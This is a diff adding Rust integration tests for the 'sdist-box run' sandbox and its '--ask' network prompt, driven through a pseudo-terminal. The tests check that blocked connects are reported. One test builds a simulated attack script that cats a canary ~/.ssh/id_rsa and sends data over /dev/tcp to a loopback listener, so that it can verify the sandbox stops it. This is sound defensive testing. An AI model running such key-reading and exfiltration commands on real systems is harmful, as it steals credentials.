@@ -1,0 +1,319 @@
+//! `sdist-box run`: a plain command in the sandbox, with the streams, the
+//! findings and the report of a build; `--ask` driven through a real
+//! pseudo-terminal.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::os::unix::process::CommandExt;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+/// The report at `path`, checked against the report's JSON Schema.
+fn report_at(path: &Path) -> Value {
+    let text = std::fs::read_to_string(path)
+        .unwrap_or_else(|e| panic!("no report at {}: {e}", path.display()));
+    let doc: Value = serde_json::from_str(&text).unwrap();
+    let schema: Value = serde_json::from_str(
+        &std::fs::read_to_string(common::repo().join("schema/report.schema.json")).unwrap(),
+    )
+    .unwrap();
+    let validator = jsonschema::validator_for(&schema).expect("the schema compiles");
+    let errors: Vec<String> = validator
+        .iter_errors(&doc)
+        .map(|e| format!("{e} at {}", e.instance_path()))
+        .collect();
+    assert!(
+        errors.is_empty(),
+        "the report does not validate:\n{}",
+        errors.join("\n")
+    );
+    doc
+}
+
+fn findings_of<'a>(report: &'a Value, kind: &str) -> Vec<&'a Value> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["kind"] == kind)
+        .collect()
+}
+
+/// A shell reads a canary outside the sandbox's view and connects to a
+/// listener on the host's loopback: both stopped, and the report names the
+/// connect from the kernel stream (an exec'd shell has no audit hook).
+fn shell_attack(as_user: Option<(u32, u32)>) {
+    let home = common::CanaryHome::new();
+    let watch = common::AccessWatch::new(&[&home.path().join(".ssh/id_rsa")]);
+    let listener = common::Listener::start();
+    listener.self_check();
+    let out = common::tempdir_for(as_user);
+    let report = out.path().join("run.json");
+    let script = format!(
+        "cat {key} 2>&1; exec 3<>/dev/tcp/127.0.0.1/{port} && echo stolen >&3; echo attack-ran; true",
+        key = home.path().join(".ssh/id_rsa").display(),
+        port = listener.port
+    );
+    let binary = match as_user {
+        Some(_) => common::shared_binary(),
+        None => common::bin(),
+    };
+    let mut cmd = match as_user {
+        Some((uid, gid)) => {
+            let mut c = Command::new("setpriv");
+            c.args([
+                &format!("--reuid={uid}"),
+                &format!("--regid={gid}"),
+                "--clear-groups",
+                "--",
+            ]);
+            c.arg(&binary);
+            c
+        }
+        None => Command::new(&binary),
+    };
+    cmd.arg("run")
+        .arg("--report")
+        .arg(&report)
+        .arg("--cache-dir")
+        .arg(out.path().join("cache"))
+        .args(["--", "/bin/bash", "-c", &script])
+        .env("NO_COLOR", "1")
+        .env("HOME", home.path());
+    let r = cmd.output().unwrap();
+    let stderr = String::from_utf8_lossy(&r.stderr);
+    assert!(
+        stderr.contains("attack-ran"),
+        "the attack did not run:\n{stderr}"
+    );
+    // Stopped: nothing reached the listener, the key was never opened.
+    assert_eq!(listener.connections(), 0, "the listener got a connection");
+    assert!(listener.bytes().is_empty());
+    assert_eq!(watch.events(), 0, "the canary key was opened");
+    home.assert_unchanged();
+    assert!(!stderr.contains(common::SECRET), "{stderr}");
+    // Named: the blocked connect, from the kernel stream, with the shell.
+    let v = report_at(&report);
+    let connects = findings_of(&v, "net-connect");
+    let target = format!("127.0.0.1:{}", listener.port);
+    let f = connects
+        .iter()
+        .find(|f| f["target"] == target.as_str())
+        .unwrap_or_else(|| panic!("no finding for {target}: {:#}", v["findings"]));
+    assert_eq!(f["verdict"], "blocked");
+    assert_eq!(f["severity"], "blocked");
+    assert!(f["seen_by"].as_array().unwrap().contains(&"kernel".into()));
+    assert!(
+        f["process_chain"][0].as_str().unwrap().contains("bash"),
+        "{f:#}"
+    );
+    assert_eq!(v["outcome"]["status"], "ran");
+    assert_eq!(v["command"][0], "/bin/bash");
+    assert_eq!(v["hooks"][0]["phase"], "run");
+    // The command succeeded, the report has a blocked finding: exit 1.
+    assert_eq!(r.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("BLOCKED net-connect"), "{stderr}");
+}
+
+#[test]
+fn run_stops_and_reports_an_attack_from_a_plain_shell() {
+    require!(
+        common::userns_available(),
+        "user namespaces are disabled on this host"
+    );
+    shell_attack(None);
+}
+
+#[test]
+fn run_stops_and_reports_an_attack_from_a_plain_shell_as_an_unprivileged_user() {
+    require!(
+        common::userns_available(),
+        "user namespaces are disabled on this host"
+    );
+    let user = common::test_user();
+    require!(
+        user.is_some() && common::is_root(),
+        "no test user sdistbox-test (or not root to switch to it)"
+    );
+    shell_attack(user);
+}
+
+/// A child of ours with `slave` as its controlling terminal; stdin is
+/// /dev/null and stdout/stderr are pipes, so the only way to the terminal
+/// is /dev/tty.
+fn spawn_on_pty(args: &[&str], slave: &OwnedFd) -> std::process::Child {
+    let fd = slave.as_raw_fd();
+    let mut cmd = Command::new(common::bin());
+    cmd.args(args)
+        .env("NO_COLOR", "1")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    // SAFETY: between fork and exec only async-signal-safe calls (setsid,
+    // ioctl) are made, on a descriptor that stays open in the child.
+    unsafe {
+        cmd.pre_exec(move || {
+            if libc::setsid() < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            if libc::ioctl(fd, libc::TIOCSCTTY as _, 0) < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    cmd.spawn().unwrap()
+}
+
+/// Read the terminal until `needle` appears after `from`; returns all text.
+fn wait_for(master: &mut std::fs::File, seen: &mut String, from: usize, needle: &str) {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while !seen[from..].contains(needle) {
+        assert!(
+            Instant::now() < deadline,
+            "no `{needle}` on the terminal; it shows:\n{seen}"
+        );
+        let mut buf = [0u8; 4096];
+        match master.read(&mut buf) {
+            Ok(0) | Err(_) => std::thread::sleep(Duration::from_millis(20)),
+            Ok(n) => seen.push_str(&String::from_utf8_lossy(&buf[..n])),
+        }
+    }
+}
+
+#[test]
+fn ask_allows_one_connect_and_denies_another_through_a_pseudo_terminal() {
+    require!(
+        common::userns_available(),
+        "user namespaces are disabled on this host"
+    );
+    let pty = nix::pty::openpty(None, None).unwrap();
+    for fd in [&pty.master, &pty.slave] {
+        nix::fcntl::fcntl(
+            fd,
+            nix::fcntl::FcntlArg::F_SETFD(nix::fcntl::FdFlag::FD_CLOEXEC),
+        )
+        .unwrap();
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let report = dir.path().join("ask.json");
+    // Two distinct ports on loopback inside the empty network namespace:
+    // an allowed connect reaches the kernel (nothing listens: refused), a
+    // denied one fails in the supervisor (permission denied).
+    let script = "exec 3<>/dev/tcp/127.0.0.1/4101 || echo first-failed; \
+                  exec 4<>/dev/tcp/127.0.0.1/4102 || echo second-failed; true";
+    let report_arg = report.display().to_string();
+    let child = spawn_on_pty(
+        &[
+            "run",
+            "--ask",
+            "--ask-timeout",
+            "60",
+            "--report",
+            &report_arg,
+            "--",
+            "/bin/bash",
+            "-c",
+            script,
+        ],
+        &pty.slave,
+    );
+    drop(pty.slave);
+    let mut master = std::fs::File::from(pty.master);
+    let mut seen = String::new();
+    wait_for(&mut master, &mut seen, 0, "127.0.0.1:4101");
+    wait_for(&mut master, &mut seen, 0, "deny in");
+    assert!(seen.contains("[y] allow once"), "{seen}");
+    assert!(seen.contains("bash"), "the process chain is shown: {seen}");
+    master.write_all(b"y").unwrap();
+    let mark = seen.len();
+    wait_for(&mut master, &mut seen, mark, "127.0.0.1:4102");
+    wait_for(&mut master, &mut seen, mark, "deny in");
+    master.write_all(b"n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    // What the command saw: refused by the (empty) network, then denied.
+    assert!(stderr.contains("Connection refused"), "{stderr}");
+    assert!(stderr.contains("Permission denied"), "{stderr}");
+    assert!(
+        !stdout_or_stderr_has_prompt(&out.stdout, &stderr),
+        "the question must not go through the command's output"
+    );
+    let v = report_at(&report);
+    let decisions = v["decisions"].as_array().expect("decisions in the report");
+    assert_eq!(decisions.len(), 2, "{decisions:#?}");
+    assert_eq!(decisions[0]["target"], "127.0.0.1:4101");
+    assert_eq!(decisions[0]["answer"], "allow-once");
+    assert_eq!(decisions[0]["verdict"], "allowed");
+    assert_eq!(decisions[1]["target"], "127.0.0.1:4102");
+    assert_eq!(decisions[1]["answer"], "deny");
+    assert_eq!(decisions[1]["verdict"], "denied");
+    let connects = findings_of(&v, "net-connect");
+    let by_port = |p: &str| {
+        connects
+            .iter()
+            .find(|f| f["target"] == p)
+            .unwrap_or_else(|| panic!("no finding for {p}: {:#}", v["findings"]))
+    };
+    assert_eq!(by_port("127.0.0.1:4101")["verdict"], "allowed");
+    assert!(
+        by_port("127.0.0.1:4101")["decided_by"]
+            .as_str()
+            .unwrap()
+            .contains("allowed once at the --ask prompt")
+    );
+    assert_eq!(by_port("127.0.0.1:4102")["verdict"], "blocked");
+    assert!(
+        by_port("127.0.0.1:4102")["decided_by"]
+            .as_str()
+            .unwrap()
+            .contains("denied at the --ask prompt")
+    );
+}
+
+fn stdout_or_stderr_has_prompt(stdout: &[u8], stderr: &str) -> bool {
+    String::from_utf8_lossy(stdout).contains("[y] allow once") || stderr.contains("[y] allow once")
+}
+
+#[test]
+fn ask_without_a_terminal_denies_and_says_so() {
+    require!(
+        common::userns_available(),
+        "user namespaces are disabled on this host"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let report = dir.path().join("ask.json");
+    let mut cmd = Command::new(common::bin());
+    cmd.args(["run", "--ask", "--report"])
+        .arg(&report)
+        .args([
+            "--",
+            "/bin/bash",
+            "-c",
+            "exec 3<>/dev/tcp/127.0.0.1/4103 || echo connect-failed; true",
+        ])
+        .env("NO_COLOR", "1")
+        .stdin(Stdio::null());
+    // SAFETY: setsid only, between fork and exec: no controlling terminal.
+    unsafe {
+        cmd.pre_exec(|| {
+            libc::setsid();
+            Ok(())
+        });
+    }
+    let out = cmd.output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("connect-failed"), "{stderr}");
+    assert!(stderr.contains("Permission denied"), "{stderr}");
+    let v = report_at(&report);
+    let d = &v["decisions"][0];
+    assert_eq!(d["answer"], "no-terminal", "{v:#}");
+    assert_eq!(d["verdict"], "denied");
+    assert_eq!(d["reason"], "denied: no terminal to ask");
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+}
